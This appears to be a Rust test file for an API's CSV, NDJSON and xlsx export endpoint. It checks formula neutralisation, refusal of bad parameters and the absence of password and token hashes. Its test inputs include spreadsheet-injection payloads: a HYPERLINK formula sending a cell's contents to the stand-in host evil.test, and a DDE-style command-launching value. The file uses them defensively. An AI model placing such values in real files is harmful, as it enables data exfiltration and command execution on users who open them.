//! What is in the files.

use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use quarterdeck::store::row::csv::unmarked;
use serde_json::{Value, json};

use super::{get, parse_csv};
use crate::api::sample::{World, call, list, statements, text};
use crate::house::app::{TestApp, on_each_app};

/// What a spreadsheet program might run, or a reader of CSV stumble over.
const TEXTS: [&str; 18] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.test/?\"&A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''+1",
    "'plain'",
    "",
    " =1",
    "a,b",
    "say \"hi\"",
    "two\r\nlines",
    "\"",
    "日本 😀",
    "=1,\"2\"\n3",
];

/// The table in a workbook; `None` for an empty cell, and whether it is text.
fn sheet(bytes: Vec<u8>) -> (Vec<Vec<Option<(String, bool)>>>, usize) {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).expect("a workbook");
    let name = book.sheet_names()[0].clone();
    let formulas = book
        .worksheet_formula(&name)
        .expect("a sheet")
        .used_cells()
        .count();
    let range = book.worksheet_range(&name).expect("a sheet");
    let cell = |data: &Data| match data {
        Data::Empty => None,
        Data::String(s) => Some((s.clone(), true)),
        other => Some((other.to_string(), false)),
    };
    (
        range.rows().map(|r| r.iter().map(cell).collect()).collect(),
        formulas,
    )
}

/// A JSON value as CSV and xlsx have it.
fn plain(value: &Value) -> Option<String> {
    (!value.is_null()).then(|| text(value))
}

fn same_number(a: &str, b: &str) -> bool {
    let number = |t: &str| t.parse::<f64>().ok();
    number(a).is_some() && number(a) == number(b)
}

async fn check_model(app: &TestApp, world: &World<'_>, slug: &str, query: &str) {
    let session = world.session;
    let (_, page) = session
        .get(&format!("/api/v1/{slug}?limit=100&{query}"))
        .await;
    let records = list(&page["data"]);
    assert!(!records.is_empty(), "{slug}");
    let names: Vec<String> = records[0]
        .as_object()
        .expect("a record")
        .keys()
        .cloned()
        .collect();

    app.statements();
    let lines = get(
        session,
        &format!("/api/v1/{slug}/_export?format=ndjson&{query}"),
    )
    .await;
    let ran = app.statements();
    let own = ran.iter().filter(|sql| sql.contains("ORDER BY")).count();
    assert_eq!(own, 1, "{slug}: {ran:?}");
    assert_eq!(lines.header("content-type"), "application/x-ndjson");
    let lines: Vec<Value> = lines
        .text()
        .lines()
        .map(|line| serde_json::from_str(line).expect("JSON"))
        .collect();
    assert_eq!(lines, records, "{slug} {query}");

    let file = get(session, &format!("/api/v1/{slug}/_export?{query}")).await;
    assert_eq!(
        file.header("content-type"),
        "text/csv; charset=utf-8; header=present"
    );
    let rows = parse_csv(&file.text());
    let header: Vec<String> = rows[0].iter().map(|c| c.clone().expect("a name")).collect();
    assert_eq!(header, names, "{slug}");
    assert_eq!(rows.len(), records.len() + 1, "{slug}");
    for (row, record) in rows[1..].iter().zip(&records) {
        for (cell, name) in row.iter().zip(&names) {
            let cell = cell.as_deref().map(unmarked);
            assert_eq!(cell, plain(&record[name]).as_deref(), "{name} of {slug}");
        }
    }

    let book = get(
        session,
        &format!("/api/v1/{slug}/_export?format=xlsx&{query}"),
    )
    .await;
    assert!(book.header("content-type").ends_with("spreadsheetml.sheet"));
    let (rows, formulas) = sheet(book.bytes.expect("a file"));
    assert_eq!(formulas, 0, "{slug}");
    let header: Vec<String> = rows[0]
        .iter()
        .map(|c| c.clone().expect("a name").0)
        .collect();
    assert_eq!(header, names, "{slug}");
    assert_eq!(rows.len(), records.len() + 1, "{slug}");
    for (row, record) in rows[1..].iter().zip(&records) {
        for (cell, name) in row.iter().zip(&names) {
            let wanted = plain(&record[name]);
            let same = match (cell, &wanted) {
                (None, wanted) => wanted.as_deref().unwrap_or_default().is_empty(),
                (Some((cell, true)), Some(wanted)) => *cell == marked(wanted),
                (Some((cell, false)), Some(wanted)) => cell == wanted || same_number(cell, wanted),
                _ => false,
            };
            assert!(same, "{name} of {slug}: {cell:?}, {wanted:?}");
        }
    }
}

/// A text as a workbook has it where there may be null.
fn marked(text: &str) -> String {
    let mark = if text.trim_matches('\'').is_empty() {
        "'"
    } else {
        ""
    };
    format!("{mark}{text}")
}

#[tokio::test]
async fn every_model_is_exported_as_the_list_shows_it() {
    on_each_app(
        "every_model_is_exported",
        |b| b,
        async |app| {
            let admin = app.login("admin").await;
            let world = World::look(&admin).await;
            for slug in world.slugs().iter().filter(|s| !s.starts_with("qd_")) {
                for _ in 0..5 {
                    world.make(slug).await;
                }
                check_model(app, &world, slug, "").await;
                let key = world.key(slug).remove(0);
                check_model(
                    app,
                    &world,
                    slug,
                    &format!("sort=-{key}&{key}__isnull=false"),
                )
                .await;
            }
        },
    )
    .await;
}

#[tokio::test]
async fn a73_no_cell_is_a_formula_and_every_text_comes_back() {
    on_each_app("a73_no_cell_is_a_formula", |b| b, async |app| {
        let admin = app.login("admin").await;
        for (i, text) in TEXTS.iter().enumerate() {
            let body = json!({"name": format!("{i}"), "slug": format!("a{i}"), "country": "GB", "biography": text});
            let body = if text.trim().is_empty() { body } else {
                let mut body = body;
                body["name"] = json!(text);
                body
            };
            app.make("author", body).await;
        }
        let path = "/api/v1/author/_export?sort=id&fields=name,biography";
        let rows = parse_csv(&get(&admin, path).await.text());
        for (row, wanted) in rows[1..].iter().zip(TEXTS) {
            let biography = row[1].clone().expect("a text");
            let first = biography.chars().next();
            assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{biography:?}");
            assert_eq!(unmarked(&biography), wanted);
        }
        let (rows, formulas) = sheet(get(&admin, &format!("{path}&format=xlsx")).await.bytes.expect("a file"));
        assert_eq!(formulas, 0);
        for (row, wanted) in rows[1..].iter().zip(TEXTS) {
            let cell = row[1].clone();
            let wanted = Some((marked(wanted), true));
            // A workbook ends its lines with a line feed.
            let unix = |c: Option<(String, bool)>| c.map(|(t, s)| (t.replace("\r\n", "\n"), s));
            assert_eq!(unix(cell), unix(wanted));
        }
    })
    .await;
}

#[tokio::test]
async fn a_file_has_a_name_and_a_head_costs_no_statement() {
    on_each_app(
        "a_file_has_a_name",
        |b| b,
        async |app| {
            let admin = app.login("admin").await;
            app.make("author", json!({"name": "A", "slug": "a", "country": "GB"}))
                .await;
            let path = "/api/v1/author/_export?fields=name";
            let file = get(&admin, path).await;
            assert_eq!((file.status, file.text().as_str()), (200, "name\r\nA\r\n"));
            let today = chrono::Utc::now().date_naive();
            let disposition = file.header("content-disposition");
            assert_eq!(
                disposition,
                format!("attachment; filename=\"author-{today}.csv\"")
            );
            assert_eq!(file.header("cache-control"), "no-store");
            app.statements();
            let head = call(&admin, ("HEAD", path), &[], None).await;
            assert_eq!(
                (head.status, head.header("content-disposition")),
                (200, disposition)
            );
            assert_eq!(statements(app), Vec::<String>::new());
            let none = get(&admin, "/api/v1/book/_export?fields=title").await;
            assert_eq!(none.text(), "title\r\n");
            let none = get(&admin, "/api/v1/book/_export?format=ndjson").await;
            assert_eq!((none.status, none.text().as_str()), (200, ""));
        },
    )
    .await;
}

#[tokio::test]
async fn what_makes_pages_is_refused_and_so_is_what_no_file_can_be() {
    on_each_app(
        "what_makes_pages_is_refused",
        |b| b,
        async |app| {
            let admin = app.login("admin").await;
            let long =
                json!({"name": "A", "slug": "a", "country": "GB", "biography": "x".repeat(40_000)});
            app.make("author", long).await;
            for (query, fault) in [
                ("format=xml", "format choice"),
                ("format=csv&format=csv", "format duplicate"),
                ("expand=book", "expand unknown_parameter"),
                ("limit=10", "limit unknown_parameter"),
                ("cursor=x", "cursor unknown_parameter"),
                ("page=1", "page unknown_parameter"),
                ("offset=1", "offset unknown_parameter"),
                ("count=none", "count unknown_parameter"),
                ("nothing=1", "nothing unknown_field"),
                ("fields=nothing", "fields unknown_field"),
                ("sort=nothing", "sort unknown_field"),
                ("format=xlsx&fields=biography", "format too_long"),
            ] {
                let path = format!("/api/v1/author/_export?{query}");
                let reply = call(&admin, ("GET", &path), &[], None).await;
                assert_eq!(reply.status, 400, "{query}: {}", reply.text);
                assert_eq!(reply.faults(), [fault], "{query}");
            }
        },
    )
    .await;
}

#[tokio::test]
async fn a21_no_secret_is_in_a_file_and_none_can_be_asked_for() {
    on_each_app(
        "a21_no_secret_is_in_a_file",
        |b| b,
        async |app| {
            let admin = app.login("admin").await;
            for (slug, secret) in [
                ("qd_user", "password_hash"),
                ("qd_session", "token_hash"),
                ("qd_token", "token_hash"),
            ] {
                for format in ["csv", "ndjson"] {
                    let file =
                        get(&admin, &format!("/api/v1/{slug}/_export?format={format}")).await;
                    assert_eq!(file.status, 200, "{slug}");
                    let text = file.text();
                    assert!(
                        !text.contains(secret) && !text.contains("argon2"),
                        "{slug} {format}: {text}"
                    );
                }
                for shape in [
                    "@__contains=a",
                    "@__isnull=false",
                    "fields=@",
                    "sort=@",
                    "q=argon2&@=x",
                ] {
                    let ask = async |name: &str| {
                        let path = format!("/api/v1/{slug}/_export?{}", shape.replace('@', name));
                        call(&admin, ("GET", &path), &[], None).await
                    };
                    let (got, wanted) = (ask(secret).await, ask("zz_field").await);
                    assert_eq!(got.status, 400, "{slug} {shape}: {}", got.text);
                    let id = (wanted.header("x-request-id"), got.header("x-request-id"));
                    let wanted = wanted.text.replace("zz_field", secret).replace(id.0, id.1);
                    assert_eq!(got.text, wanted, "{slug} {shape}");
                }
            }
        },
    )
    .await;
}
